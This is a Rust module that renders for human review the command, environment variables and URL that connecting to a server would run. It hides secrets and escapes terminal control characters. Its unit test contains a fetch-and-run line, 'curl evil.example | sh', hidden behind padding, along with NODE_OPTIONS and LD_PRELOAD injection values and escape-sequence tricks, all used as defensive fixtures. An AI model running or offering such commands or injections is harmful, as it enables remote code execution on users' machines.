//! What visiting a server starts or connects to, in words for whoever is asked about it: all that decides what runs, and no
//! secret.

use thoth_types::display::{name, quoted};

use crate::configuration::is_secret;
use crate::visits::Way;

/// Beginnings of the names of variables that decide what code runs: what loaders, interpreters and package managers load, and
/// from where. In capitals; names are compared without regard to case, as some programs read them.
const LOADS: [&str; 24] = [
    "BASH_ENV",
    "BUN_",
    "CLASSPATH",
    "DENO_",
    "DOTNET_",
    "DYLD_",
    "ENV",
    "GIT_",
    "JAVA",
    "JDK_",
    "LD_",
    "LUA_",
    "NODE_",
    "NPM_CONFIG_",
    "PATH",
    "PERL",
    "PHP",
    "PIP_",
    "PYTHON",
    "RUBY",
    "SHELL",
    "UV_",
    "YARN_",
    "_JAVA",
];

/// One text for each thing that is to be said. None has anything in it that a terminal would obey.
#[must_use]
pub fn lines(way: &Way) -> Vec<String> {
    match way {
        Way::Command { command, variables, directory } => {
            let words = command.iter().map(|word| name(&word.to_string_lossy()).into_owned());
            let mut lines = vec![words.collect::<Vec<_>>().join(" ")];
            lines.extend(directory.as_ref().map(|path| format!("in {}", name(&path.to_string_lossy()))));
            if !variables.is_empty() {
                let shown = variables.iter().map(|(name, value)| variable(name, &value.to_string_lossy()));
                lines.push(format!("with {}", shown.collect::<Vec<_>>().join(", ")));
            }
            lines
        }
        Way::Address { url, headers } => {
            let mut lines = vec![quoted(url)];
            if !headers.is_empty() {
                let names = headers.iter().map(|(header, _)| name(header)).collect::<Vec<_>>();
                lines.push(format!("with the headers {}", names.join(", ")));
            }
            lines
        }
    }
}

/// A variable by its name, with its value where that decides what runs.
fn variable(variable: &str, value: &str) -> String {
    let upper = variable.to_ascii_uppercase();
    let loads = LOADS.iter().any(|start| upper.starts_with(start));
    let has_login = value.split_once("://").is_some_and(|(_, rest)| rest.contains('@'));
    if loads && !has_login && !is_secret(variable, value) {
        format!("{}={}", name(variable), name(value))
    } else {
        name(variable).into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Defends: whoever agrees has seen what runs, to its end; secrets are shown to nobody, and nothing obeys a terminal.
    #[test]
    fn what_decides_what_runs_is_shown() {
        let long = format!("{}; curl evil.example | sh", "true && ".repeat(40));
        let variables = [
            ("NODE_OPTIONS", "--require ./x.js"),
            ("ld_preload", "./x.so"),
            ("PATH", "./bin:/usr/bin"),
            ("API_KEY", "hush-hush-hush"),
            ("NPM_CONFIG_TOKEN", "hush-hush-hush"),
            ("PIP_INDEX_URL", "https://me:hush@pypi.example/simple"),
            ("HOST\u{1b}[2J", "hush"),
        ];
        let way = Way::Command {
            command: ["sh", "-c", &long].map(Into::into).to_vec(),
            variables: variables.map(|(name, value)| (name.to_owned(), value.into())).to_vec(),
            directory: Some("/home/u/cloned project".into()),
        };
        let expected = [
            format!("sh -c \"{long}\""),
            "in \"/home/u/cloned project\"".to_owned(),
            "with NODE_OPTIONS=\"--require ./x.js\", ld_preload=./x.so, PATH=./bin:/usr/bin, API_KEY, NPM_CONFIG_TOKEN, \
             PIP_INDEX_URL, \"HOST\\u{1b}[2J\""
                .to_owned(),
        ];
        assert_eq!(lines(&way), expected);
        let headers = vec![("Authorization".to_owned(), "hush".to_owned())];
        let way = Way::Address { url: "https://mcp.example/\u{202e}".to_owned(), headers };
        assert_eq!(lines(&way), ["\"https://mcp.example/\\u{202e}\"", "with the headers Authorization"]);
    }
}
